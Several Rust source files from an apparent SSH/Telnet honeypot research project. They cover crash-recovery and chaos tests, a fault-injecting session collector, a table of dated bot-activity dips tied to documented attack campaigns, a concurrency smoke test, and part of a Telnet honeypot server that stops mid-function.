        drive_full(
            addr,
            ClientScript::new("root", &["admin"], &[&format!("echo {m}")]),
        );
    }

    // The client dialogue finishing does not mean the server has flushed
    // the session yet — wait until every settled session is observably
    // durable. Only then is it "acknowledged".
    let deadline = Instant::now() + Duration::from_secs(20);
    while durable_rows(&store) < settled {
        assert!(
            Instant::now() < deadline,
            "kill point {iter}: {settled} sessions never became durable"
        );
        std::thread::sleep(Duration::from_millis(2));
    }

    // In-flight sessions: mid-dialogue when the SIGKILL lands. They may
    // or may not survive; they must never corrupt what is already durable.
    let flights: Vec<_> = (0..inflight)
        .map(|_| {
            std::thread::spawn(move || {
                let Ok(mut stream) = TcpStream::connect(addr) else {
                    return;
                };
                stream
                    .set_read_timeout(Some(Duration::from_millis(10)))
                    .ok();
                let mut buf = [0u8; 4096];
                let _ = stream.write_all(b"SSH-2.0-crash-harness\r\n");
                let deadline = Instant::now() + Duration::from_secs(2);
                while Instant::now() < deadline {
                    match stream.read(&mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(_) => {}
                    }
                }
            })
        })
        .collect();
    if jitter_ms > 0 {
        std::thread::sleep(Duration::from_millis(jitter_ms));
    }

    sigkill(&serve.child);
    let mut child = serve.child;
    child.wait().expect("reap killed server");
    for f in flights {
        let _ = f.join();
    }
    drop(serve.stderr);

    // Recovery must never panic and must hand back a CRC-clean store.
    let report = recover(&store).expect("recovery succeeds on a killed store");
    let opened = Store::open(&store).expect("recovered store opens");
    let recs: Vec<_> = opened
        .scan()
        .records()
        .collect::<Result<_, _>>()
        .expect("every CRC verifies after recovery");
    assert!(
        recs.len() as u64 >= settled,
        "kill point {iter}: {} recovered < {settled} acknowledged (report: {:?})",
        recs.len(),
        report
    );
    for m in &markers {
        assert!(
            recs.iter()
                .any(|r| r.commands.iter().any(|c| c.input.contains(m.as_str()))),
            "kill point {iter}: acknowledged session '{m}' lost (report: {:?})",
            report
        );
    }
    let _ = std::fs::remove_dir_all(&store);
}

/// ≥20 distinct seeded kill points: every acknowledged session survives
/// `kill -9` with `--fsync-every 1`, all CRCs verify, recovery never
/// panics.
#[test]
fn seeded_sigkill_points_lose_no_acknowledged_session() {
    for iter in 0..22u64 {
        let settled = 1 + iter % 4; // 1..=4 acknowledged sessions
        let inflight = iter % 3; // 0..=2 mid-dialogue victims
        let rows_per_segment = [3, 5, 100][(iter % 3) as usize]; // seal boundaries vary
        let jitter_ms = (iter * 7) % 25; // kill lands at varying offsets
        kill_point(iter, settled, inflight, rows_per_segment, jitter_ms);
    }
}

/// Chaos mode: flush failures and shard panics injected into a live
/// server must never break the store's core invariant — sealed rows
/// exactly match what the collector acknowledged.
#[test]
fn chaos_serve_accounting_stays_consistent() {
    let store = temp_store("chaos");
    let mut serve = spawn_serve(
        &store,
        &[
            "--fsync-every",
            "1",
            "--rows-per-segment",
            "5",
            "--chaos-flush-fail",
            "0.4",
            "--chaos-shard-panic",
            "0.2",
            "--chaos-seed",
            "5",
        ],
    );
    let addr = serve.addr;

    // Tolerant clients: a shard-panic chaos roll kills their connection.
    for i in 0..12 {
        let script = ClientScript::new("root", &["admin"], &[&format!("echo chaos-{i}")]);
        let Ok(mut stream) = TcpStream::connect(addr) else {
            continue;
        };
        stream
            .set_read_timeout(Some(Duration::from_millis(20)))
            .ok();
        let mut client = SshClient::new(script, b"chaos-nonce".to_vec());
        let mut buf = [0u8; 8192];
        let deadline = Instant::now() + Duration::from_secs(10);
        while !client.is_closed() && Instant::now() < deadline {
            let out = client.take_output();
            if !out.is_empty() && stream.write_all(&out).is_err() {
                break;
            }
            match stream.read(&mut buf) {
                Ok(0) => break,
                Ok(n) => {
                    if client.input(&buf[..n]).is_err() {
                        break;
                    }
                }
                Err(e)
                    if e.kind() == std::io::ErrorKind::WouldBlock
                        || e.kind() == std::io::ErrorKind::TimedOut => {}
                Err(_) => break,
            }
        }
    }

    // Graceful drain: closing stdin asks the server to shut down.
    drop(serve.child.stdin.take());
    let status = serve.child.wait().expect("server exits");
    let log = serve.stderr.join().expect("stderr thread");
    assert!(
        status.success(),
        "chaos serve must drain cleanly, got {status}; log:\n{log}"
    );

    // "collector: N accepted, …" is the server's own acknowledgement
    // count; the sealed store must hold exactly those sessions.
    let accepted: u64 = log
        .lines()
        .find_map(|l| {
            l.trim()
                .strip_prefix("collector: ")?
                .split(' ')
                .next()?
                .parse()
                .ok()
        })
        .unwrap_or_else(|| panic!("no collector accounting in log:\n{log}"));
    let opened = Store::open(&store).expect("store opens after drain");
    let recs: Vec<_> = opened
        .scan()
        .records()
        .collect::<Result<_, _>>()
        .expect("CRCs intact after chaos run");
    assert_eq!(
        recs.len() as u64,
        accepted,
        "sealed rows match collector acknowledgements; log:\n{log}"
    );
    let _ = std::fs::remove_dir_all(&store);
}
