//! The central collector (paper §3.2).
//!
//! Every honeypot forwards a closed session to the collector, which
//! assigns a dense session id and appends it to the honeynet database. The
//! collector is shared across generator threads, hence the lock; analysis
//! runs on the frozen, chronologically sorted store.
//!
//! # Degraded operation
//!
//! A long-running deployment loses records between sensor and database:
//! flushes fail, the forwarding channel backs up, malformed records
//! arrive. [`CollectorConfig`] models all three with seeded fault
//! injection:
//!
//! * a write may fail with probability `flush_failure_rate`; failed
//!   records enter a retry queue and are retried with exponential backoff
//!   (measured in flush passes), up to `max_retries` failures each;
//! * the retry queue is bounded by `queue_capacity`; records failing while
//!   it is full are dropped;
//! * records that fail validation never reach the store — they land in a
//!   quarantine lane with their diagnosis.
//!
//! Every fate is counted in [`IngestStats`], so callers can account for
//! each record handed in: `accepted + dropped + quarantined` equals the
//! number of ingest calls once the collector is drained (`retried` counts
//! retry *attempts*, not records). The default config injects no faults
//! and behaves exactly like the original write-through collector.
//!
//! # Id density invariant
//!
//! Both [`Collector::ingest`] and [`Collector::ingest_batch`] assign ids
//! at *store* time, in store order: the ids of stored records are exactly
//! `0..stats().accepted`, with no gaps, regardless of how many records
//! were dropped or quarantined along the way. A batch holds the lock for
//! its whole flush, so the ids of its stored members form the contiguous
//! range `ingest_batch` returns.

use crate::record::SessionRecord;
use netsim::faults::{backoff_delay, FailureInjector};
use parking_lot::Mutex;
use std::collections::VecDeque;

/// Fault-injection knobs for the collector. The default injects nothing.
#[derive(Debug, Clone)]
pub struct CollectorConfig {
    /// Retry-queue bound; `None` means unbounded.
    pub queue_capacity: Option<usize>,
    /// Probability that one store write fails.
    pub flush_failure_rate: f64,
    /// Failures tolerated per record before it is dropped.
    pub max_retries: u32,
    /// Seed of the failure injector.
    pub seed: u64,
}

impl Default for CollectorConfig {
    fn default() -> Self {
        Self { queue_capacity: None, flush_failure_rate: 0.0, max_retries: 3, seed: 0 }
    }
}

/// Counters for every fate an ingested record can meet.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct IngestStats {
    /// Records stored (ids `0..accepted`).
    pub accepted: u64,
    /// Retry attempts performed (attempts, not distinct records).
    pub retried: u64,
    /// Records lost: retries exhausted or retry queue full.
    pub dropped: u64,
    /// Records failing validation, diverted to the quarantine lane.
    pub quarantined: u64,
}

/// What happened to one ingested record.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IngestOutcome {
    /// Stored immediately under this id.
    Stored(u64),
    /// Write failed; queued for retry (will be stored or dropped later).
    Deferred,
    /// Lost: the retry queue was full.
    Dropped,
    /// Failed validation; kept in the quarantine lane.
    Quarantined,
}

/// Why a record was quarantined.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ValidationError {
    /// The session ends before it starts.
    EndBeforeStart,
}

impl std::fmt::Display for ValidationError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ValidationError::EndBeforeStart => write!(f, "session ends before it starts"),
        }
    }
}

fn validate(rec: &SessionRecord) -> Result<(), ValidationError> {
    if rec.end < rec.start {
        return Err(ValidationError::EndBeforeStart);
    }
    Ok(())
}

#[derive(Debug)]
struct Queued {
    rec: SessionRecord,
    failures: u32,
    /// First flush pass allowed to retry this record (backoff).
    ready_at: u64,
}

#[derive(Debug)]
struct Inner {
    stored: Vec<SessionRecord>,
    retry: VecDeque<Queued>,
    quarantine: Vec<(SessionRecord, ValidationError)>,
    stats: IngestStats,
    injector: FailureInjector,
    pass: u64,
}

impl Inner {
    /// Stores `rec`, assigning the next dense id.
    fn store(&mut self, mut rec: SessionRecord) -> u64 {
        let id = self.stored.len() as u64;
        rec.session_id = id;
        self.stored.push(rec);
        self.stats.accepted += 1;
        id
    }

    /// One retry pass over the queue: each due record is retried once;
    /// records exhausting `max_retries` are dropped.
    fn flush_retries(&mut self, max_retries: u32) {
        if self.retry.is_empty() {
            return;
        }
        self.pass += 1;
        let pass = self.pass;
        let mut keep = VecDeque::with_capacity(self.retry.len());
        while let Some(mut q) = self.retry.pop_front() {
            if q.ready_at > pass {
                keep.push_back(q);
                continue;
            }
            if self.injector.fires() {
                q.failures += 1;
                if q.failures > max_retries {
                    self.stats.dropped += 1;
                } else {
                    self.stats.retried += 1;
                    q.ready_at = pass + backoff_delay(1, q.failures, 1 << 16);
                    keep.push_back(q);
                }
            } else {
                self.store(q.rec);
            }
        }
        self.retry = keep;
    }

    /// Handles one validated record: direct write, deferral, or drop.
    fn submit(&mut self, rec: SessionRecord, cfg_cap: Option<usize>, max_retries: u32) -> IngestOutcome {
        if !self.injector.fires() {
            return IngestOutcome::Stored(self.store(rec));
        }
        if max_retries == 0 || cfg_cap.is_some_and(|cap| self.retry.len() >= cap) {
            self.stats.dropped += 1;
            return IngestOutcome::Dropped;
        }
        self.stats.retried += 1;
        self.retry.push_back(Queued {
            rec,
            failures: 1,
            ready_at: self.pass + backoff_delay(1, 1, 1 << 16),
        });
        IngestOutcome::Deferred
    }
}

/// Thread-safe session sink.
#[derive(Debug)]
pub struct Collector {
    inner: Mutex<Inner>,
    capacity: Option<usize>,
    max_retries: u32,
}

impl Default for Collector {
    fn default() -> Self {
        Self::with_config(CollectorConfig::default())
    }
}

impl Collector {
    /// An empty, fault-free collector.
    pub fn new() -> Self {
        Self::default()
    }

    /// An empty collector with the given fault-injection config.
    pub fn with_config(cfg: CollectorConfig) -> Self {
        Self {
            inner: Mutex::new(Inner {
                stored: Vec::new(),
                retry: VecDeque::new(),
                quarantine: Vec::new(),
                stats: IngestStats::default(),
                injector: FailureInjector::new(cfg.flush_failure_rate, cfg.seed),
                pass: 0,
            }),
            capacity: cfg.queue_capacity,
            max_retries: cfg.max_retries,
        }
    }

    /// Ingests one closed session. On the fault-free default config this
    /// always stores immediately and returns
    /// [`IngestOutcome::Stored`] with the assigned dense id.
    pub fn ingest(&self, rec: SessionRecord) -> IngestOutcome {
        let mut inner = self.inner.lock();
        inner.flush_retries(self.max_retries);
        if let Err(e) = validate(&rec) {
            inner.stats.quarantined += 1;
            inner.quarantine.push((rec, e));
            return IngestOutcome::Quarantined;
        }
        inner.submit(rec, self.capacity, self.max_retries)
    }

    /// Ingests a batch under a single lock acquisition and returns the
    /// contiguous id range assigned to the batch's *stored* members (see
    /// the module-level id-density invariant). Deferred, dropped and
    /// quarantined members are excluded from the range and visible via
    /// [`Collector::stats`].
    pub fn ingest_batch(
        &self,
        recs: impl IntoIterator<Item = SessionRecord>,
    ) -> std::ops::Range<u64> {
        let mut inner = self.inner.lock();
        inner.flush_retries(self.max_retries);
        let first = inner.stored.len() as u64;
        for rec in recs {
            if let Err(e) = validate(&rec) {
                inner.stats.quarantined += 1;
                inner.quarantine.push((rec, e));
                continue;
            }
            inner.submit(rec, self.capacity, self.max_retries);
        }
        first..inner.stored.len() as u64
    }

    /// Number of sessions stored.
    pub fn len(&self) -> usize {
        self.inner.lock().stored.len()
    }

    /// Whether the store is empty.
    pub fn is_empty(&self) -> bool {
        self.inner.lock().stored.is_empty()
    }

    /// Current fate counters. Records still awaiting retry are in no
    /// counter yet; drain with [`Collector::into_parts`] for the final
    /// accounting.
    pub fn stats(&self) -> IngestStats {
        self.inner.lock().stats
    }

    /// The quarantine lane: records that failed validation, with their
    /// diagnoses.
    pub fn quarantine(&self) -> Vec<(SessionRecord, ValidationError)> {
        self.inner.lock().quarantine.clone()
    }

    /// Freezes the collector into a chronologically sorted dataset, as the
    /// in-situ analysis interface presents it.
    pub fn into_dataset(self) -> Vec<SessionRecord> {
        self.into_parts().0
    }

    /// Drains the retry queue (each record is retried until stored or out
    /// of retries) and freezes the collector, returning the sorted
    /// dataset, the final stats, and the quarantine lane.
    pub fn into_parts(
        self,
    ) -> (Vec<SessionRecord>, IngestStats, Vec<(SessionRecord, ValidationError)>) {
        let mut inner = self.inner.into_inner();
        while !inner.retry.is_empty() {
            inner.flush_retries(self.max_retries);
        }
        let mut v = inner.stored;
        v.sort_by_key(|r| (r.start, r.session_id));
        (v, inner.stats, inner.quarantine)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::{Protocol, SessionEndReason};
    use hutil::Date;
    use netsim::Ipv4Addr;

    fn rec(start_hour: u8) -> SessionRecord {
        SessionRecord {
            session_id: 999, // collector must overwrite
            honeypot_id: 0,
            honeypot_ip: Ipv4Addr(1),
            client_ip: Ipv4Addr(2),
            client_port: 1,
            protocol: Protocol::Ssh,
            start: Date::new(2022, 1, 1).at(start_hour, 0, 0),
            end: Date::new(2022, 1, 1).at(start_hour, 0, 30),
            end_reason: SessionEndReason::ClientClose,
            client_version: None,
            logins: vec![],
            commands: vec![],
            uris: vec![],
            file_events: vec![],
        }
    }

    #[test]
    fn ids_are_dense_and_assigned() {
        let c = Collector::new();
        assert_eq!(c.ingest(rec(5)), IngestOutcome::Stored(0));
        assert_eq!(c.ingest(rec(3)), IngestOutcome::Stored(1));
        assert_eq!(c.len(), 2);
        assert_eq!(c.stats().accepted, 2);
    }

    #[test]
    fn dataset_is_chronological() {
        let c = Collector::new();
        c.ingest(rec(9));
        c.ingest(rec(1));
        assert_eq!(c.ingest_batch([rec(5), rec(2)]), 2..4);
        let ds = c.into_dataset();
        assert_eq!(ds.len(), 4);
        let hours: Vec<u8> = ds.iter().map(|r| r.start.hour()).collect();
        assert_eq!(hours, vec![1, 2, 5, 9]);
    }

    #[test]
    fn concurrent_ingest_is_safe() {
        use std::sync::Arc;
        let c = Arc::new(Collector::new());
        let mut handles = Vec::new();
        for _ in 0..8 {
            let c = Arc::clone(&c);
            handles.push(std::thread::spawn(move || {
                for i in 0..100 {
                    c.ingest(rec((i % 24) as u8));
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        let ds = Arc::try_unwrap(c).unwrap().into_dataset();
        assert_eq!(ds.len(), 800);
        // Ids are a permutation of 0..800.
        let mut ids: Vec<u64> = ds.iter().map(|r| r.session_id).collect();
        ids.sort_unstable();
        assert_eq!(ids, (0..800).collect::<Vec<u64>>());
    }

    #[test]
    fn invalid_records_are_quarantined() {
        let c = Collector::new();
        let mut bad = rec(5);
        bad.end = bad.start.plus_secs(-10);
        assert_eq!(c.ingest(bad), IngestOutcome::Quarantined);
        assert_eq!(c.ingest(rec(6)), IngestOutcome::Stored(0));
        let (ds, stats, quarantine) = c.into_parts();
        assert_eq!(ds.len(), 1);
        assert_eq!(stats.quarantined, 1);
        assert_eq!(quarantine.len(), 1);
        assert_eq!(quarantine[0].1, ValidationError::EndBeforeStart);
    }

    #[test]
    fn flush_failures_retry_and_eventually_store() {
        let c = Collector::with_config(CollectorConfig {
            flush_failure_rate: 0.4,
            queue_capacity: Some(1024),
            max_retries: 8,
            seed: 17,
        });
        for i in 0..500 {
            c.ingest(rec((i % 24) as u8));
        }
        let (ds, stats, _) = c.into_parts();
        assert_eq!(stats.accepted, ds.len() as u64);
        assert!(stats.retried > 0, "some writes must have failed");
        // Full accounting: every record met exactly one fate.
        assert_eq!(stats.accepted + stats.dropped + stats.quarantined, 500);
        // With 8 retries at 40 % failure, nearly everything lands.
        assert!(ds.len() >= 490, "stored {}", ds.len());
        // Ids dense over stored records.
        let mut ids: Vec<u64> = ds.iter().map(|r| r.session_id).collect();
        ids.sort_unstable();
        assert_eq!(ids, (0..ds.len() as u64).collect::<Vec<u64>>());
    }

    #[test]
    fn bounded_queue_drops_on_overflow() {
        let c = Collector::with_config(CollectorConfig {
            flush_failure_rate: 1.0, // every write fails
            queue_capacity: Some(4),
            max_retries: 1000,
            seed: 1,
        });
        for i in 0..50 {
            c.ingest(rec((i % 24) as u8));
        }
        let stats = c.stats();
        assert!(stats.dropped >= 40, "overflow must drop: {stats:?}");
    }

    #[test]
    fn zero_retries_drops_failed_writes_immediately() {
        let c = Collector::with_config(CollectorConfig {
            flush_failure_rate: 1.0,
            queue_capacity: None,
            max_retries: 0,
            seed: 2,
        });
        assert_eq!(c.ingest(rec(1)), IngestOutcome::Dropped);
        let (ds, stats, _) = c.into_parts();
        assert!(ds.is_empty());
        assert_eq!(stats.dropped, 1);
        assert_eq!(stats.retried, 0);
    }

    #[test]
    fn faulted_collector_is_deterministic() {
        let gen = || {
            let c = Collector::with_config(CollectorConfig {
                flush_failure_rate: 0.3,
                queue_capacity: Some(16),
                max_retries: 3,
                seed: 99,
            });
            for i in 0..300 {
                c.ingest(rec((i % 24) as u8));
            }
            c.into_parts()
        };
        let (a, sa, _) = gen();
        let (b, sb, _) = gen();
        assert_eq!(sa, sb);
        assert_eq!(a.len(), b.len());
    }
}
