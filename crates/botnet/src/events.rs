//! Documented event windows correlated with `mdrfckr` activity dips.
//!
//! Paper §10 ("Events correlation") lists eight periods in which the
//! otherwise steady `mdrfckr` bot (~100k sessions/day) collapsed to ~100
//! sessions/day from ~10 IPs, each coinciding with a documented attack
//! campaign elsewhere. The generator reproduces the dips at exactly these
//! dates; the case-study analysis (core::mdrfckr) rediscovers them.

use hutil::Date;

/// One low-activity window with its documented coinciding event.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DipWindow {
    /// First day of reduced activity (inclusive).
    pub start: Date,
    /// Last day of reduced activity (inclusive).
    pub end: Date,
    /// The coinciding documented event, as cited by the paper.
    pub event: &'static str,
}

impl DipWindow {
    /// Whether `d` falls inside the window.
    pub fn contains(&self, d: Date) -> bool {
        d >= self.start && d <= self.end
    }
}

/// The eight dip windows of §10 (plus the initial deployment ramp-up is
/// handled separately by the campaign table, not listed here).
pub fn mdrfckr_dip_windows() -> Vec<DipWindow> {
    vec![
        DipWindow {
            start: Date::new(2022, 3, 16),
            end: Date::new(2022, 3, 24),
            event: "IRIDIUM DDoS attacks against Ukrainian infrastructure",
        },
        DipWindow {
            start: Date::new(2022, 4, 2),
            end: Date::new(2022, 4, 12),
            event: "Continued pro-Russian attacks on Ukrainian targets",
        },
        DipWindow {
            start: Date::new(2022, 8, 1),
            end: Date::new(2022, 8, 2),
            event: "Hits on infrastructure of a European country supporting Ukraine",
        },
        DipWindow {
            start: Date::new(2022, 10, 10),
            end: Date::new(2022, 10, 16),
            event: "Sandworm attack on Ukrainian power grid; Killnet DDoS on US airports",
        },
        DipWindow {
            start: Date::new(2023, 3, 2),
            end: Date::new(2023, 3, 10),
            event: "Attack against KyivStar mobile operator",
        },
        DipWindow {
            start: Date::new(2023, 9, 1),
            end: Date::new(2023, 9, 8),
            event: "DDoS against Ukrainian public administration and media",
        },
        DipWindow {
            start: Date::new(2024, 1, 19),
            end: Date::new(2024, 1, 21),
            event: "APT29 (Midnight Blizzard) data-theft attack",
        },
        DipWindow {
            start: Date::new(2024, 4, 4),
            end: Date::new(2024, 4, 10),
            event: "Sandworm attack against Ukrainian infrastructure",
        },
    ]
}

/// Whether `d` lies in any dip window.
pub fn in_dip(d: Date) -> bool {
    mdrfckr_dip_windows().iter().any(|w| w.contains(d))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn eight_windows_sorted_and_disjoint() {
        let w = mdrfckr_dip_windows();
        assert_eq!(w.len(), 8);
        for pair in w.windows(2) {
            assert!(
                pair[0].end < pair[1].start,
                "windows must be disjoint and sorted"
            );
        }
        for win in &w {
            assert!(win.start <= win.end);
        }
    }

    #[test]
    fn membership() {
        assert!(in_dip(Date::new(2022, 3, 20)));
        assert!(in_dip(Date::new(2022, 10, 10)));
        assert!(in_dip(Date::new(2024, 4, 10)));
        assert!(!in_dip(Date::new(2022, 3, 25)));
        assert!(!in_dip(Date::new(2023, 1, 1)));
    }

    #[test]
    fn all_windows_inside_study_period() {
        let start = Date::new(2021, 12, 1);
        let end = Date::new(2024, 8, 31);
        for w in mdrfckr_dip_windows() {
            assert!(w.start >= start && w.end <= end);
        }
    }
}
