//! Concurrency smoke test for the live serving layer.
//!
//! Runs the real `honeylab serve` binary, fires hundreds of parallel
//! raw-TCP SSH clients at it (released together through a barrier), asks
//! for a graceful shutdown by closing the binary's stdin, and checks that
//! the sealed sessiondb store holds exactly one CRC-intact record per
//! client — then round-trips the store through `honeylab analyze`.

use honeylab::sshwire::{ClientScript, SshClient};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Command, Stdio};
use std::sync::{Arc, Barrier};
use std::time::{Duration, Instant};

/// The acceptance bar: this many concurrent sessions on loopback, with a
/// connection cap above it, must produce zero shed connections.
const CLIENTS: usize = 500;

fn honeylab() -> Command {
    Command::new(env!("CARGO_BIN_EXE_honeylab"))
}

/// Plays one scripted SSH session over a real socket (same dialogue loop
/// as the serve crate's own live tests).
fn drive_ssh(addr: SocketAddr, script: ClientScript) {
    let mut stream = TcpStream::connect(addr).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .unwrap();
    stream.set_nodelay(true).ok();
    let mut client = SshClient::new(script, b"smoke-test-nonce".to_vec());
    let mut buf = [0u8; 8192];
    let deadline = Instant::now() + Duration::from_secs(120);
    while !client.is_closed() {
        assert!(Instant::now() < deadline, "client dialogue stalled");
        let out = client.take_output();
        if !out.is_empty() {
            stream.write_all(&out).expect("client write");
        }
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => client.input(&buf[..n]).expect("client protocol"),
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(e) => panic!("client read failed: {e}"),
        }
    }
    let out = client.take_output();
    if !out.is_empty() {
        let _ = stream.write_all(&out);
    }
}

#[test]
fn five_hundred_concurrent_sessions_drain_into_the_store() {
    let dir = std::env::temp_dir().join(format!("honeylab-serve-smoke-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let cap = (CLIENTS + 100).to_string();

    let mut child = honeylab()
        .args([
            "serve",
            "--ssh-port",
            "0",
            "--store",
            dir.to_str().unwrap(),
            "--max-conns",
            &cap,
            "--per-ip",
            &cap,
            "--stats-secs",
            "0",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn honeylab serve");

    // The binary announces its (ephemeral) bound port on stderr.
    let mut reader = BufReader::new(child.stderr.take().expect("piped stderr"));
    let addr: SocketAddr = {
        let mut line = String::new();
        loop {
            line.clear();
            if reader.read_line(&mut line).expect("read stderr") == 0 {
                panic!("serve exited before announcing its listener");
            }
            if let Some(rest) = line.trim().strip_prefix("listening ssh on ") {
                break rest.parse().expect("listener address parses");
            }
        }
    };
    // Keep draining stderr so the child never blocks on a full pipe; the
    // collected tail carries the final accounting lines.
    let stderr_tail = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = reader.read_to_string(&mut s);
        s
    });

    // All clients arrive together: the barrier releases every thread at
    // once, so the server really holds CLIENTS concurrent sessions.
    let barrier = Arc::new(Barrier::new(CLIENTS));
    let mut clients = Vec::with_capacity(CLIENTS);
    for i in 0..CLIENTS {
        let barrier = Arc::clone(&barrier);
        clients.push(std::thread::spawn(move || {
            let script = ClientScript::new(
                "root",
                &["admin"],
                &[&format!("echo smoke-{i}"), "uname -a"],
            );
            barrier.wait();
            drive_ssh(addr, script);
        }));
    }
    for c in clients {
        c.join().expect("client thread");
    }

    // Closing stdin requests a graceful drain; the process must exit 0
    // with every session recorded and the store sealed.
    drop(child.stdin.take());
    let status = child.wait().expect("serve exits");
    let err = stderr_tail.join().expect("stderr drained");
    assert!(status.success(), "serve exited cleanly, stderr:\n{err}");
    assert!(
        err.contains(&format!("completed={CLIENTS}")),
        "every session completed:\n{err}"
    );
    assert!(
        err.contains("shed=0+0"),
        "nothing shed below the cap:\n{err}"
    );
    assert!(err.contains("wire_errors=0"), "clean protocol runs:\n{err}");

    // Exactly one CRC-intact record per client.
    let store = honeylab::sessiondb::Store::open(&dir).expect("open sealed store");
    let recs: Vec<_> = store
        .scan()
        .records()
        .collect::<Result<_, _>>()
        .expect("intact CRCs");
    assert_eq!(recs.len(), CLIENTS, "one record per client");
    for rec in &recs {
        assert_eq!(rec.protocol, honeylab::honeypot::Protocol::Ssh);
        assert_eq!(rec.commands.len(), 2);
        assert!(rec.login_succeeded());
    }

    // The store the server produced round-trips through the analyzer,
    // and the analyzer's counts match the driver's.
    let out = honeylab()
        .args(["analyze", dir.to_str().unwrap(), "--report", "taxonomy"])
        .output()
        .expect("analyze runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let aerr = String::from_utf8_lossy(&out.stderr);
    assert!(
        aerr.contains(&format!("sessiondb store: {CLIENTS} sessions")),
        "{aerr}"
    );
    assert!(
        aerr.contains(&format!("validated {CLIENTS} sessions")),
        "{aerr}"
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Dataset statistics"), "{text}");
    assert!(
        text.contains(&format!("total sessions:      {CLIENTS}")),
        "{text}"
    );

    let _ = std::fs::remove_dir_all(&dir);
}
