//! Server (honeypot) side of the Telnet dialogue.
//!
//! State machine: negotiate → `login:` → `Password:` → shell loop.
//! Failed logins re-prompt up to a retry budget, as real telnetd does and
//! IoT brute-forcers expect.

use crate::codec::{self, opt, Event, TelnetCodec, DO, DONT, WILL, WONT};
use crate::TelnetError;

/// Policy hooks the honeypot provides.
pub trait TelnetHandler {
    /// Decides one credential pair.
    fn auth(&mut self, username: &str, password: &str) -> bool;
    /// Executes a command line, returning emulated output.
    fn exec(&mut self, command: &str) -> String;
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    AwaitLogin,
    AwaitPassword,
    Shell,
    Closed,
}

/// Maximum credential attempts before the server drops the connection
/// (matching the common `login: incorrect` triple-try behaviour).
const MAX_AUTH_TRIES: usize = 3;

/// The Telnet server endpoint.
pub struct TelnetServer<H: TelnetHandler> {
    handler: H,
    codec: TelnetCodec,
    outbuf: Vec<u8>,
    phase: Phase,
    line: Vec<u8>,
    pending_user: Option<String>,
    auth_tries: usize,
    auth_log: Vec<(String, String, bool)>,
    exec_log: Vec<String>,
    hostname: String,
}

impl<H: TelnetHandler> TelnetServer<H> {
    /// Creates the server; the banner and negotiation go out immediately.
    pub fn new(handler: H, hostname: &str) -> Self {
        let mut s = Self {
            handler,
            codec: TelnetCodec::new(),
            outbuf: Vec::new(),
            phase: Phase::AwaitLogin,
            line: Vec::new(),
            pending_user: None,
            auth_tries: 0,
            auth_log: Vec::new(),
            exec_log: Vec::new(),
            hostname: hostname.to_string(),
        };
        // Classic telnetd opening: WILL ECHO, WILL SGA, DO NAWS.
        s.outbuf
            .extend_from_slice(&codec::negotiate(WILL, opt::ECHO));
        s.outbuf
            .extend_from_slice(&codec::negotiate(WILL, opt::SGA));
        s.outbuf.extend_from_slice(&codec::negotiate(DO, opt::NAWS));
        s.send_str(&format!("\r\n{} login: ", s.hostname.clone()));
        s
    }

    /// Auth attempts so far.
    pub fn auth_log(&self) -> &[(String, String, bool)] {
        &self.auth_log
    }

    /// Commands executed so far.
    pub fn exec_log(&self) -> &[String] {
        &self.exec_log
    }

    /// Whether the server dropped the connection.
    pub fn is_closed(&self) -> bool {
        self.phase == Phase::Closed
    }

    /// Drains bytes queued for the client.
    pub fn take_output(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.outbuf)
    }

    /// Consumes the server, returning the handler.
    pub fn into_handler(self) -> H {
        self.handler
    }

    fn send_str(&mut self, s: &str) {
        self.outbuf
            .extend_from_slice(&codec::escape_data(s.as_bytes()));
    }

    /// Feeds client bytes.
    pub fn input(&mut self, data: &[u8]) -> Result<(), TelnetError> {
        self.codec.input(data);
        for ev in self.codec.drain()? {
            match ev {
                Event::Negotiate { verb, option } => self.negotiate(verb, option),
                Event::Data(bytes) => self.data(&bytes),
                Event::Subnegotiation { .. } | Event::Command(_) => {}
            }
        }
        Ok(())
    }

    fn negotiate(&mut self, verb: u8, option: u8) {
        // Accept nothing beyond what we offered; refuse everything else.
        match (verb, option) {
            (DO, opt::ECHO | opt::SGA) | (WONT, _) | (DONT, _) => {}
            (DO, other) => self
                .outbuf
                .extend_from_slice(&codec::negotiate(WONT, other)),
            (WILL, opt::NAWS) => {}
            (WILL, other) => self
                .outbuf
                .extend_from_slice(&codec::negotiate(DONT, other)),
            _ => {}
        }
    }

    fn data(&mut self, bytes: &[u8]) {
        for &b in bytes {
            match b {
                b'\r' => {}
                b'\n' => {
                    let line = String::from_utf8_lossy(&self.line).into_owned();
                    self.line.clear();
                    self.on_line(line.trim_end());
                }
                _ => self.line.push(b),
            }
        }
    }

    fn on_line(&mut self, line: &str) {
        match self.phase {
            Phase::AwaitLogin => {
                self.pending_user = Some(line.to_string());
                self.send_str("Password: ");
                self.phase = Phase::AwaitPassword;
            }
            Phase::AwaitPassword => {
                let user = self.pending_user.take().unwrap_or_default();
                let ok = self.handler.auth(&user, line);
                self.auth_log.push((user, line.to_string(), ok));
                if ok {
                    let host = self.hostname.clone();
                    self.send_str(&format!(
                        "\r\nBusyBox v1.22.1 built-in shell (ash)\r\n\r\n{host}:~# "
                    ));
                    self.phase = Phase::Shell;
                } else {
